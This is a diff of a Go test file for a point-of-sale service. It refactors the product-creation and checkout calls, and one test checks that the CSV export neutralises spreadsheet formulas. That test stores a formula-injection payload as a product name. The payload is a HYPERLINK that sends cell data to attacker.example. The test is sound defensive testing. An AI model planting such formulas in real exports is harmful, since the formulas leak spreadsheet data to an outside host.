@@ -23,11 +23,11 @@ func TestVoidThroughRESTNeedsTheTillRule(t *testing.T) {
 		svc := pos.New(db.Client)
 		ctx := context.Background()
 		qty, price := int64(5), money.MustParse("2.00")
-		p, err := svc.CreateProduct(ctx, pos.CreateProductRequest{Name: "Tea", Sku: "T-1", Price: &price}, pos.StockInput{Quantity: &qty})
+		p, err := svc.Catalogue().CreateProduct(ctx, pos.CreateProductRequest{Name: "Tea", Sku: "T-1", Price: &price}, pos.StockInput{Quantity: &qty})
 		if err != nil {
 			t.Fatal(err)
 		}
-		sl, err := svc.Checkout(ctx, pos.CheckoutInput{Items: []pos.ItemInput{{ProductID: p.ID, Quantity: 1}},
+		sl, err := svc.Selling().Checkout(ctx, pos.CheckoutInput{Items: []pos.ItemInput{{ProductID: p.ID, Quantity: 1}},
 			Payments: []pos.PaymentInput{{Method: payment.MethodCARD, Amount: price}}})
 		if err != nil {
 			t.Fatal(err)
@@ -50,7 +50,7 @@ func TestCSVExportNeutralisesFormulas(t *testing.T) {
 		svc := pos.New(db.Client)
 		qty, price := int64(5), money.MustParse("2.00")
 		name := `=HYPERLINK("http://attacker.example/?d="&A1,"Click")`
-		if _, err := svc.CreateProduct(context.Background(), pos.CreateProductRequest{Name: name, Sku: "@SKU", Price: &price}, pos.StockInput{Quantity: &qty}); err != nil {
+		if _, err := svc.Catalogue().CreateProduct(context.Background(), pos.CreateProductRequest{Name: name, Sku: "@SKU", Price: &price}, pos.StockInput{Quantity: &qty}); err != nil {
 			t.Fatal(err)
 		}
 		r := c.get("/v1/reports/inventory/stock-levels?format=csv", nil)
